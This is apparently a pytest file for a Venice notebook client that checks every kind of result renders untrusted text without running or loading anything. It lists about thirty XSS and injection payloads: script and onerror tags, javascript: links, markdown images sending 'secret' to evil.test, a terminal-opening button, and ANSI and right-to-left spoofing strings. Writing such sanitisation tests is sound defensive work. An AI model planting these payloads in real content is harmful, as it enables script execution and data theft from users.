"""Whatever strangers write into a result, its display runs nothing and loads nothing."""

from dataclasses import replace
from html.parser import HTMLParser

import numpy as np
import pytest

from venice_nb.calls.call import Received
from venice_nb.calls.talk.gather import ReplyGatherer
from venice_nb.catalogue import Catalogue
from venice_nb.catalogue.model import Deprecation
from venice_nb.policy.spend_book import Line
from venice_nb.results.account.analytics import Analytics
from venice_nb.results.account.balance import AccountBalance
from venice_nb.results.account.history import History, HistoryPage
from venice_nb.results.account.keys import ApiKey, KeyTable
from venice_nb.results.account.left import LimitsLeft
from venice_nb.results.account.limit_log import LimitLog
from venice_nb.results.characters import Character, CharacterTable, Review, Reviews
from venice_nb.results.headers import Headers, Limit, Limits
from venice_nb.results.limits import RateLimit, RateLimits
from venice_nb.results.models.models import ModelCard, ModelTable
from venice_nb.results.models.names import Names
from venice_nb.results.models.prices import PriceTable
from venice_nb.results.raw import RawReply
from venice_nb.results.spending.estimate import CallEstimate
from venice_nb.results.spending.reconciliation import Reconciliation
from venice_nb.results.spending.spend import Spend
from venice_nb.results.talk.reply import Choice, Reply, Source, ToolCall, ToolStep
from venice_nb.results.talk.reply_view import live_bundle
from venice_nb.results.talk.response import ResponsesReply
from venice_nb.results.vectors import Vectors
from venice_nb.results.web.page import Page, Pages
from venice_nb.results.web.parsed import ParsedFile
from venice_nb.results.web.research import Research
from venice_nb.results.web.search import SearchResults

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<iframe src=https://evil.test></iframe>",
    "![x](https://evil.test/a.png?q=secret)",
    "![x][r]\n\n[r]: https://evil.test/a.png",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://user@evil.test)",
    '<button data-commandlinker-command="terminal:create">x</button>',
    '<a href="vbscript:x" style="background:url(https://evil.test)">x</a>',
    "<style>@import url(https://evil.test)</style>",
    "<details open ontoggle=alert(1)>",
    "<video poster=https://evil.test/x autoplay src=https://evil.test/v>",
    "<form action=https://evil.test><input name=q></form>",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```x" onmouseover="alert(1)\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "</div></section></details><script>alert(1)</script>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x1b[31mred\x1b]8;;https://evil.test\x07x\x1b]8;;\x07",
    "a\u202egnp.exe",
    "javascript:alert(1)",
    'https://evil.test/" onclick="alert(1)',
    "^1^ [REF]0[/REF]",
    "\ud800",
    "<think><script>alert(1)</script></think>",
]
ALLOWED = {
    "a", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1",
    "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s", "section", "small", "span",
    "strong", "style", "sub", "summary", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
LINKS = ("http://", "https://", "mailto:", "#")


class Judge(HTMLParser):
    """Refuses every element, attribute and address that could act or load."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.styles = 0

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        self.styles += tag == "style"
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name in {
                "class",
                "title",
                "href",
                "rel",
                "target",
                "scope",
                "start",
                "open",
                "style",
                "id",
            }, name
            if name == "href":
                assert value.startswith(LINKS), value
                assert "@" not in value.partition("//")[2].partition("/")[0]
            if name == "style":
                assert "url" not in value.lower()

    def handle_decl(self, decl):
        raise AssertionError(decl)

    def handle_comment(self, data):
        raise AssertionError(data)


CATALOGUE = Catalogue.bundled()


def growing(text):
    import json

    gatherer = ReplyGatherer(model=text)
    cited = {"web_search_citations": [{"title": text, "url": text}]}
    for part in ({"reasoning_content": text}, {"content": text[: len(text) // 2]}):
        choices = [{"index": 0, "delta": part}]
        gatherer.add("message", json.dumps({"model": text, "choices": choices, "venice_parameters": cited}))
    return gatherer


def results(evil):
    """Every kind of result with the text wherever a stranger may put it."""
    call = ToolCall(evil, evil, evil)
    source = Source(evil, evil, evil, evil)
    headers = Headers(
        {"cf-ray": evil, "x-venice-model-deprecation-date": evil, "x-venice-deprecated-replacement": evil}
    )
    reply = Reply(
        text=evil,
        reasoning=evil,
        tool_calls=(call, ToolCall("a", evil, '{"x": "<script>"}')),
        finish_reason=evil,
        model=evil,
        sources=(source, Source(evil, "https://fine.test/" + evil)),
        elapsed=1.0,
        headers=headers,
        choices=(Choice(evil), Choice(evil, index=1)),
        steps=(ToolStep(call, evil), ToolStep(call, evil, failed=True)),
    )
    yield "reply", reply
    yield "parsed reply", replace(reply, parsed={"x": evil})
    yield "unfinished reply", replace(reply, complete=False, finish_reason="length")
    yield "response", ResponsesReply(text=evil, model=evil, status=evil)
    person = Character(
        evil,
        evil,
        evil,
        (evil,),
        evil,
        adult=True,
        model_id=evil,
        rating=4.0,
        ratings=2,
        share_url=evil,
        photo_url=evil,
    )
    yield "character", person
    yield (
        "characters",
        CharacterTable(characters=(person, replace(person, share_url="https://fine.test/" + evil))),
    )
    yield "reviews", Reviews(reviews=(Review(5, evil, evil, evil, evil),))
    model = replace(
        CATALOGUE.get("llama-3.3-70b"),
        id=evil, name=evil, privacy=evil, traits=(evil,), deprecation=Deprecation(evil, evil),
    )  # fmt: skip
    yield "models", ModelTable(models=(model,), date=evil, note=evil)
    yield "mixed models", ModelTable(models=(model, replace(model, type=evil)))
    yield "model", ModelCard(model, evil)
    yield "prices", PriceTable.of([model], "text", evil, evil)
    yield "names", Names("trait", "text", {evil: evil}, evil)
    yield "limits", RateLimits(limits=(RateLimit(evil, evil, 5.0),), tier=evil, expires=evil)
    yield "raw", RawReply(200, headers, evil.encode("utf-8", "replace"), evil)
    yield "vectors", Vectors(np.ones((1, 2), np.float32), model=evil)
    yield "search results", SearchResults(evil, reply.sources)
    yield "page", Page(evil, evil, evil)
    yield "pages", Pages((evil, "https://fine.test/" + evil), (Page(evil, evil), ValueError(evil)))
    yield "parsed file", ParsedFile(evil, 1, evil, evil)
    yield "research", Research(text=f"{evil} [1][2]", sources=reply.sources, answered=True, cited=(1, 2))
    yield "uncited research", Research(text=evil, model=evil, sources=reply.sources, answered=True)

    yield from account(evil, headers)


def account(evil, headers):
    """What a server says of an account."""
    names = ("id", "description", "apiKeyType", "limitPeriod", "modelPrivacy", "lastUsedAt", "expiresAt")
    key = {**dict.fromkeys(names, evil), "consumptionLimits": {"usd": 5}}
    yield "key", ApiKey.read(key, headers=headers)
    yield "fresh key", ApiKey.read({**key, "apiKey": "VENICE_INFERENCE_KEY_fresh_0123456789"}, new=True)
    yield "keys", KeyTable((ApiKey.read(key),))
    yield "balance", AccountBalance(5.0, currency=evil, headers=headers)
    row = dict.fromkeys(("timestamp", "sku", "currency", "notes"), evil)
    yield "bill", History(HistoryPage.read({"data": [{**row, "amount": -1}]}, headers).rows, headers=headers)
    model = dict.fromkeys(("modelName", "unitType", "modelType"), evil)
    sums = {"lookback": evil, "byDate": [{"date": evil}], "byModel": [model]}
    yield "sums", Analytics.read(sums, headers)
    logged = dict.fromkeys(("timestamp", "modelId", "rateLimitType", "rateLimitTier", "apiKeyId"), evil)
    yield "log of limits", LimitLog.read([logged], headers)
    told = Limits(Limit(20, 4, 30.0), type=evil)
    yield "limits left", LimitsLeft.of([(evil, evil, 1.0, told)])
    line = Line(1.0, evil, evil, evil, unit=evil, usd=0.5, request_id=evil, answer_id=evil, note=evil)
    yield "spending", Spend((line,), whose=evil)
    yield "estimate", CallEstimate(0.5, model=evil)
    differs = {"request_id": evil, "booked": 1.0, "billed": None, "difference": -1.0, "what": evil}
    yield "reconciliation", Reconciliation("history", 1.0, 0.0, rows=(differs,))


KINDS = [name for name, _ in results("x")]


@pytest.mark.parametrize("evil", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("kind", KINDS)
def test_a_result_shows_foreign_text_without_running_or_loading_anything(kind, evil):
    """Fault row 50."""
    shown = dict(results(evil))[kind]._mimebundle()
    judge = Judge()
    judge.feed(shown["text/html"])
    judge.close()
    assert judge.styles <= 1
    assert not set(shown["text/plain"]) & set("\x1b\x07\u202e\ud800")
    shown["text/html"].encode()
    shown["text/plain"].encode()


@pytest.mark.parametrize("evil", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_growing_reply_is_as_safe_as_a_finished_one(evil):
    gatherer = growing(evil)
    judge = Judge()
    judge.feed(live_bundle(gatherer)["text/html"])
    judge.feed(gatherer.result(Received(200, {}, b""))._mimebundle()["text/html"])


@pytest.mark.parametrize("kind", KINDS)
def test_a_repr_carries_no_terminal_codes(kind):
    assert "\x1b" not in repr(dict(results("\x1b[31mx\x1b[0m"))[kind])
